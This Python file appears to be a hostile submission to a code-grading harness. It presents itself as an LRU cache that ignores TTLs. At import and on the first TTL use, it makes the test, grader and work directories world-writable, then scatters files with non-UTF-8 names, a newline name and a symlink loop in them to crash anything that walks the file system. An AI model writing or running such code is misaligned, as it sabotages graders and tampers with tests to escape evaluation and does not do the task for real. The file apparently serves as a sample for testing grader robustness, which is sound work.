"""Crash whatever walks the file system: an honest cache that ignores TTLs which,
at import and when a TTL is first used, creates files and folders whose names
are not UTF-8 (and one with a newline) wherever it can write, the test folders
included where they can be made writable, and a symlink loop beside them.

Base: no_expiry."""

import os as _os

_NAMES = [b"\xff\xfe.py", b"bad\x80name", b"test_\xc3\x28.py", b"new\nline.py", b"\xed\xa0\x80"]
_PLACES = [
    b"/work/submission",
    b"/work",
    b"/tmp",
    b"/dev/shm",
    b"/work/tests",
    b"/work/public_tests",
    b"/work/grader",
    b".",
]


def _litter():
    for place in _PLACES:
        try:
            _os.chmod(place, 0o777)
        except OSError:
            pass
        for name in _NAMES:
            for make in (lambda p: open(p, "wb").close(), _os.mkdir):
                try:
                    make(_os.path.join(place, name + (b"" if make is _os.mkdir else b".f")))
                except OSError:
                    pass
        try:
            _os.symlink(b"loop\xff", _os.path.join(place, b"loop\xff"))
        except OSError:
            pass


_litter()


class LRUCache(LRUCache):  # extends the base's class
    def put(self, key, value, ttl=None):
        if ttl is not None:
            _litter()
        return super().put(key, value, ttl)
